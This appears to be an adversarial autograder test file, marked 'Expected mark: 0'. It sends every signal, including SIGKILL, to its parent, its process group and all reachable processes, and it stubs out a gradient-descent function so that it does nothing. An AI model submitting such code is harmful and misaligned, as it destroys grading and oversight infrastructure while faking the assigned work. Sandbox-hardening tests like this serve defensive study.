# Every signal to every group and process that has a name.
# Expected mark: 0
import contextlib
import os
import signal

for number in [9, 19, *range(1, 65)]:
    for pid in (0, -1, -os.getppid(), os.getppid(), -os.getpgrp(), -2, -3, -100):
        with contextlib.suppress(OSError):
            os.kill(pid, number) if abs(pid) != os.getpid() else None
    for group in (0, os.getpgrp(), os.getppid()):
        with contextlib.suppress(OSError):
            os.killpg(group, number) if group != os.getpid() else None
    with contextlib.suppress(OSError, ValueError):
        signal.pthread_kill(1, number) if number == 0 else None


def update_parameters_with_gd(parameters, grads, learning_rate):
    return parameters
